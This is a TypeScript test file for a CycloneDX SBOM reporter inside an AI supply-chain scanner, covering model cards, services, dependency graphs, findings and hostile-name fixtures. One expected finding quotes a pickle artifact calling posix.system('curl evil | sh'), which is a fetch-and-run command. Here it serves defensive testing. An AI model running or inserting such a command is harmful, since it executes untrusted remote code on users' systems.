import { Validation, Spec } from '@cyclonedx/cyclonedx-library';
import { PackageURL } from 'packageurl-js';
import { describe, expect, test } from 'vitest';
import { HOSTILE, hostileReport } from '../../fixtures/reports/hostile.ts';
import { at, emptyReport, richReport } from '../../fixtures/reports/rich.ts';
import { fixtureTexts } from '../../fixtures/reports/texts.ts';
import { refOf } from '../../src/core/component.ts';
import type { Report } from '../../src/core/report.ts';
import { MAX_OCCURRENCES } from '../../src/reporters/cyclonedx/evidence.ts';
import { render } from '../../src/reporters/cyclonedx/index.ts';
import { MAX_SKIPPED } from '../../src/reporters/cyclonedx/metadata.ts';
import type { SpecVersion } from '../../src/reporters/reporter.ts';
import { expectTame } from './tame.ts';

interface Item {
  readonly type?: string;
  readonly name: string;
  readonly group?: string;
  readonly version?: string;
  readonly purl?: string;
  readonly 'bom-ref': string;
  readonly [key: string]: unknown;
}

interface Bom {
  readonly serialNumber: string;
  readonly specVersion: string;
  readonly metadata: {
    readonly timestamp: string;
    readonly component: Item;
    readonly properties: readonly { readonly name: string; readonly value: string }[];
  };
  readonly components: readonly Item[];
  readonly services?: readonly Item[];
  readonly dependencies: readonly { readonly ref: string; readonly dependsOn?: readonly string[] }[];
  readonly vulnerabilities: readonly (Item & { readonly id: string })[];
  readonly compositions: readonly unknown[];
}

const bomOf = async (report: Report, specVersion: SpecVersion = '1.6'): Promise<Bom> =>
  JSON.parse(await render(report, { specVersion, texts: fixtureTexts })) as Bom;

const item = (bom: Bom, ref: string): Item => {
  const found = [...bom.components, ...(bom.services ?? [])].find((each) => each['bom-ref'] === ref);
  if (found === undefined) throw new Error(`no ${ref}`);
  return found;
};

describe.each(['1.6', '1.7'] as const)('CycloneDX %s', (specVersion) => {
  const version = specVersion === '1.6' ? Spec.Version.v1dot6 : Spec.Version.v1dot7;
  const strict = new Validation.JsonStrictValidator(version);

  test.each([
    ['rich', richReport],
    ['empty', emptyReport],
    ['hostile', hostileReport],
  ])('the BOM of a %s report is strictly valid', async (_, report) => {
    const json = await render(report, { specVersion, texts: fixtureTexts });
    expect(await strict.validate(json)).toBeNull();
    expect((JSON.parse(json) as Bom).specVersion).toBe(specVersion);
  });

  test('the validator sees what we add: a wrong model card does not pass', async () => {
    const json = await render(richReport, { specVersion });
    expect(await strict.validate(json.replace('"modelParameters"', '"nonsense"'))).not.toBeNull();
  });
});

describe('what the BOM says', () => {
  test('every component and service is there once, with its kind', async () => {
    const bom = await bomOf(richReport);
    const kinds = [...bom.components, ...(bom.services ?? [])].map((each) => {
      const properties = each['properties'] as readonly { name: string; value: string }[];
      return [each['bom-ref'], properties.find((property) => property.name === 'assay:kind')?.value];
    });
    expect(new Map(kinds as [string, string][])).toEqual(
      new Map(richReport.components.map((each) => [refOf(each), each.name === 'requests' ? 'other' : each.kind])),
    );
    expect(bom.services?.map((service) => service['bom-ref'])).toEqual(['service:openai', 'service:ollama', 'vector-store:chroma']);
  });

  test.each([
    ['CLAUDE.md', 'agent-files', 'agent-file'],
    ['.github/prompts/plan.prompt.md', 'agent-files', 'agent-file'],
    ['.claude/skills/pdf/SKILL.md', 'agent-files', 'agent-file'],
    ['skills/units/SKILL.md', 'agent-files', 'agent-file'],
    ['prompts/AGENTS.md', 'prompts', 'prompt'],
  ])('tells files for coding agents from prompts of the product: %s', async (name, crawler, kind) => {
    const occurrences = [{ location: { path: name }, technique: 'filename', crawler, confidence: 'high' }] as const;
    const bom = await bomOf({ ...emptyReport, components: [{ kind: 'prompt', name, occurrences }] });
    expect(bom.components[0]?.['properties']).toContainEqual({ name: 'assay:kind', value: kind });
  });

  test('a model has its card, ancestors, licence, places and how it was found', async () => {
    const model = item(await bomOf(richReport), 'model:acme/lora-support');
    expect(model).toMatchObject({
      type: 'machine-learning-model',
      purl: 'pkg:huggingface/acme/lora-support',
      licenses: [{ license: { name: 'llama3.1', url: 'https://www.llama.com/llama3_1/license/', acknowledgement: 'declared' } }],
      externalReferences: [{ type: 'model-card', url: 'https://huggingface.co/acme/lora-support' }],
      tags: ['lora', 'support'],
      pedigree: {
        ancestors: [{ type: 'machine-learning-model', name: 'meta-llama/Llama-3.1-8B', purl: 'pkg:huggingface/meta-llama/Llama-3.1-8B' }],
      },
      modelCard: {
        modelParameters: { task: 'text-generation', datasets: [{ ref: 'dataset:squad' }, { type: 'dataset', name: 'acme/tickets' }] },
        quantitativeAnalysis: { performanceMetrics: [{ type: 'accuracy', value: '0.91', slice: 'squad' }] },
      },
      evidence: {
        identity: [
          {
            field: 'purl',
            confidence: 0.9,
            concludedValue: 'pkg:huggingface/acme/lora-support',
            methods: [{ technique: 'source-code-analysis', confidence: 0.9, value: 'code' }],
          },
        ],
        occurrences: [
          { location: 'serve/README.md', line: 1 },
          { location: 'serve/load.py', line: 9, symbol: 'PeftModel.from_pretrained' },
        ],
      },
    });
  });

  test('artifacts have digest and verdict, and what was verified about them', async () => {
    const artifact = item(await bomOf(richReport), 'artifact:models/encoder.safetensors');
    expect(artifact['hashes']).toEqual([{ alg: 'SHA-256', content: 'b'.repeat(64) }]);
    expect(artifact['properties']).toEqual(
      expect.arrayContaining([
        { name: 'assay:verdict', value: 'clean' },
        { name: 'assay:integrity:status', value: 'oms: verified (identity)' },
        { name: 'assay:integrity:signer', value: 'identity=release@acme.example' },
      ]),
    );
  });

  test('services say where data goes', async () => {
    expect(item(await bomOf(richReport), 'service:openai')).toMatchObject({
      provider: { name: 'OpenAI' },
      endpoints: ['https://api.openai.com/v1'],
      authenticated: true,
      'x-trust-boundary': true,
      data: [{ flow: 'bi-directional', classification: 'prompts' }],
    });
  });

  test('the graph is connected from the application to the dataset', async () => {
    const bom = await bomOf(richReport);
    const edges = new Map(bom.dependencies.map(({ ref, dependsOn }) => [ref, dependsOn ?? []]));
    const reached = new Set<string>();
    const visit = (ref: string): void => {
      if (reached.has(ref)) return;
      reached.add(ref);
      for (const next of edges.get(ref) ?? []) visit(next);
    };
    visit(bom.metadata.component['bom-ref']);
    expect(reached.size).toBe(richReport.components.length + 1);
    expect(edges.get('model:acme/lora-support')).toEqual([
      'artifact:models/encoder.safetensors',
      'dataset:squad',
      'model:meta-llama/llama-3.1-8b',
    ]);
  });

  test('findings are vulnerabilities with rating, weakness, subject and VEX analysis', async () => {
    const bom = await bomOf(richReport);
    expect(bom.vulnerabilities).toHaveLength(richReport.findings.length);
    const [first] = bom.vulnerabilities;
    expect(first).toMatchObject({
      id: 'unsafe-artifact',
      ratings: [{ severity: 'critical', method: 'other' }],
      cwes: [502],
      detail: "Loading this file calls posix.system('curl evil | sh').",
      affects: [{ ref: 'artifact:models/classifier.pkl' }],
    });
    expect(first).not.toHaveProperty('analysis');
    expect(bom.vulnerabilities.find((each) => each.id === 'CVE-2025-32434')).toMatchObject({ affects: [{ ref: 'library:pypi/torch' }] });
    expect(bom.vulnerabilities.find((each) => each.id === 'mcp-unpinned-server')).toMatchObject({
      analysis: {
        state: 'exploitable',
        response: ['will_not_fix'],
        detail: 'waived: internal sandbox only (assay.yaml), until 2027-01-31',
      },
    });
    expect(bom.vulnerabilities.find((each) => each.id === 'hard-coded-credential')).toMatchObject({ analysis: { state: 'not_affected' } });
  });

  test('a credential is a cryptographic asset, by its place and never by its value', async () => {
    const findings = richReport.findings.map((finding) =>
      finding.ruleId === 'hard-coded-credential' ? { ...finding, status: 'open' as const } : finding,
    );
    const known = findings.find(({ ruleId }) => ruleId === 'hard-coded-credential');
    const bom = await bomOf({ ...richReport, findings: [...findings, ...(known ? [known] : [])] });
    const place = `${known?.location.path}:${known?.location.line}`;
    const secrets = bom.components.filter(({ type }) => type === 'cryptographic-asset');
    expect(secrets).toMatchObject([
      {
        name: place,
        'bom-ref': `secret:${place}`,
        cryptoProperties: { assetType: 'related-crypto-material', relatedCryptoMaterialProperties: { type: 'credential' } },
        evidence: { occurrences: [{ location: known?.location.path, line: known?.location.line }] },
      },
    ]);
    expect((await bomOf(richReport)).components.filter(({ type }) => type === 'cryptographic-asset')).toEqual([]);
  });

  test('it is honest about what was not read', async () => {
    expect((await bomOf(emptyReport)).compositions).toEqual([
      { aggregate: 'unknown', assemblies: ['application:root'], dependencies: ['application:root'] },
    ]);
    const { compositions, metadata } = await bomOf(richReport);
    expect(compositions).toEqual([
      { aggregate: 'incomplete', assemblies: ['application:root'], dependencies: ['application:root'] },
      { aggregate: 'incomplete', assemblies: ['artifact:models/old.bin', 'model:settings.model'] },
    ]);
    expect(metadata.properties).toContainEqual({ name: 'assay:skipped', value: 'src/broken.py: syntax-error' });
  });

  test('the scanned application is the root, with purl, commit and remote', async () => {
    expect((await bomOf(richReport)).metadata.component).toMatchObject({
      type: 'application',
      name: 'acme/support-bot',
      version: '1a2b3c4d5e6f708192a3b4c5d6e7f80912345678',
      purl: 'pkg:github/acme/support-bot@1a2b3c4d5e6f708192a3b4c5d6e7f80912345678',
      externalReferences: [{ type: 'vcs', url: 'https://github.com/acme/support-bot.git' }],
    });
  });
});

describe('same input, same bytes', () => {
  test('two renderings are equal, and content decides the serial number', async () => {
    const once = await render(richReport, {});
    expect(await render(richReport, {})).toBe(once);
    const serial = (json: string): string => (JSON.parse(json) as Bom).serialNumber;
    expect(serial(once)).toMatch(/^urn:uuid:[0-9a-f]{8}-[0-9a-f]{4}-8[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    expect(serial(await render({ ...richReport, findings: [] }, {}))).not.toBe(serial(once));
  });

  test('the time is the report’s', async () => {
    expect((await bomOf(richReport)).metadata.timestamp).toBe('2026-11-25T12:00:00.000Z');
  });
});

describe('hostile names', () => {
  test('all purls can be read by packageurl-js', async () => {
    const { components } = await bomOf(hostileReport);
    const purls = components.flatMap((each) => each.purl ?? []);
    expect(purls.length).toBeGreaterThan(10);
    for (const purl of purls) expect(() => PackageURL.fromString(purl), purl).not.toThrow();
  });

  test('names stay as they are, no byte of the output acts on a terminal', async () => {
    const json = await render(hostileReport, { texts: fixtureTexts });
    expectTame(json);
    const names = (JSON.parse(json) as Bom).components.map((each) => each.name);
    for (const name of Object.values(HOSTILE)) expect(names).toContain(`prompts/${name}`);
  });

  test('a licence named like a member of Object is only a name', async () => {
    const bom = await bomOf(hostileReport);
    expect(item(bom, 'model:proto __proto__')['licenses']).toEqual([
      { license: expect.objectContaining({ name: '__proto__' }) as unknown },
    ]);
  });
});

describe('limits', () => {
  test('places of one component and skipped files are listed up to a bound, and counted', async () => {
    const [first] = richReport.components;
    if (first === undefined) throw new Error('fixture');
    const places = Array.from({ length: MAX_OCCURRENCES + 5 }, (_, index) => at('src/a.py', index + 1));
    const skipped = Array.from({ length: MAX_SKIPPED + 5 }, (_, index) => ({ path: `src/${index}.py`, reason: 'too-large' as const }));
    const bom = await bomOf({
      ...richReport,
      components: [{ ...first, occurrences: places }],
      coverage: { ...richReport.coverage, skipped },
    });
    const component = item(bom, refOf(first));
    expect((component['evidence'] as { readonly occurrences: readonly unknown[] }).occurrences).toHaveLength(MAX_OCCURRENCES);
    expect(component['properties']).toContainEqual({ name: 'assay:occurrences', value: String(MAX_OCCURRENCES + 5) });
    expect(bom.metadata.properties.filter((property) => property.name === 'assay:skipped')).toHaveLength(MAX_SKIPPED);
    expect(bom.metadata.properties).toContainEqual({ name: 'assay:coverage:skipped', value: String(MAX_SKIPPED + 5) });
  });
});
